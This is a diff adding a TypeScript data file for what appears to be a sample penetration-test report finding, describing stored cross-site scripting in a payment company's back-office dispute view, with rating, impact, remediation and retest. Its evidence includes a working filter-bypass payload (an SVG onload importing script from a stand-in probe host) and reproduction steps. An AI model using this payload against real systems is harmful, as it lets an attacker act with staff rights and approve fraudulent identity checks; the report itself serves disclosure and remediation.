@@ -1,0 +1,100 @@
+import { rate } from '#content/findings/rate.ts';
+import { bullets, code, paragraph } from '#content/sample-report/blocks.ts';
+import type { ReportFinding } from '#content/sample-report/finding.ts';
+
+export const backOfficeXss: ReportFinding = {
+  id: 'MP-03',
+  title: 'A merchant can run script in the browser of back-office staff',
+  summary:
+    'Dispute replies are shown to staff as HTML after a filter that can be bypassed, so that a merchant can act with the rights of the agent.',
+  rating: rate({
+    v31: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:H/A:N',
+    v40: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:P/VC:H/VI:H/VA:N/SC:L/SI:L/SA:N',
+  }),
+  ratingNote:
+    'Interaction is Passive: reading the dispute queue is the daily work of the agent. Impact is High, because agents can see and approve identity checks of all merchants.',
+  cwe: { id: 'CWE-79', name: 'Improper Neutralization of Input During Web Page Generation' },
+  standard: 'WSTG-INPV-02',
+  assets: ['backoffice.meridianpay.example, dispute view', 'Package @meridian/rich-text 1.9.0'],
+  priority: 'Within 30 days',
+  owner: 'Back-office team lead',
+  description: [
+    paragraph(
+      'Merchants answer disputes in an editor that produces HTML. Before it is stored, a home-made filter removes script elements and attributes that start with `on`. The back office then inserts the stored HTML into the page.',
+    ),
+    paragraph(
+      'The filter works on text with regular expressions. A browser repairs broken markup first and reads attributes after; the filter sees something else than the browser does. A slash between the element name and its attribute was enough.',
+    ),
+  ],
+  evidence: [
+    code(
+      'http',
+      'Request by the merchant',
+      `
+POST /v2/disputes/dsp_test_17/replies HTTP/1.1
+Host: api.meridianpay.example
+Authorization: Bearer <user of mer_test_a>
+Content-Type: application/json
+
+{"html":"<p>See attached.</p><svg/onload=\\"import('https://il-probe.example/p.js')\\">"}
+`,
+    ),
+    code(
+      'text',
+      'What our probe reported 14 minutes later, when an agent of the test team opened the queue',
+      `
+origin     https://backoffice.meridianpay.example
+page       /disputes/dsp_test_17
+user       agent.test.2 (role: disputes)
+reachable  GET /internal/kyc/cases        200, 50 cases per page
+reachable  POST /internal/kyc/cases/:id/approve   (not sent)
+`,
+    ),
+  ],
+  reproduction: [
+    'Open a dispute as test merchant A and send the reply above, with a script on a host of your own.',
+    'Open the same dispute in the back office as a test agent.',
+    'Watch the network panel: the script is fetched from the foreign host and runs in the origin of the back office.',
+    'From the console of that page, request `/internal/kyc/cases`. The session of the agent is used.',
+  ],
+  impact:
+    'Identity documents of merchants could be read in bulk, and an attacker could approve the identity check of a company that does not exist. The second is the larger risk: such a company can receive card payments.',
+  likelihood:
+    'Medium. The attacker needs an onboarded merchant and one open dispute, which a card payment to oneself creates. Staff open every reply.',
+  remediation: [
+    paragraph(
+      'Sanitize with a parser that works as browsers do, at the moment of output, and allow few elements. Let the browser refuse the rest.',
+    ),
+    code(
+      'typescript',
+      'Proposed output of dispute replies',
+      `
+import DOMPurify from 'dompurify';
+
+const allowed = { ALLOWED_TAGS: ['p', 'br', 'b', 'i', 'ul', 'ol', 'li'], ALLOWED_ATTR: [] };
+
+export function replyHtml(stored: string): TrustedHTML {
+  return DOMPurify.sanitize(stored, { ...allowed, RETURN_TRUSTED_TYPE: true });
+}
+`,
+    ),
+    bullets(
+      'Send a policy with the back office: `script-src` with a nonce, `connect-src` limited to its own origin, `object-src` none.',
+      'Ask for a second person before an identity check is approved. It limits this flaw and the next.',
+      'Remove the home-made filter from the shared package, so that no other team builds on it.',
+    ),
+  ],
+  references: [
+    {
+      label: 'OWASP Cross Site Scripting Prevention Cheat Sheet',
+      url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
+    },
+    { label: 'DOMPurify', url: 'https://github.com/cure53/DOMPurify' },
+    { label: 'CWE-79', url: 'https://cwe.mitre.org/data/definitions/79.html' },
+  ],
+  retest: {
+    status: 'Fixed',
+    date: '2026-04-21',
+    note: 'We stored 61 replies that bypass filters of this kind. All were shown without effect, also with the policy header removed. Approval now needs two people.',
+  },
+};
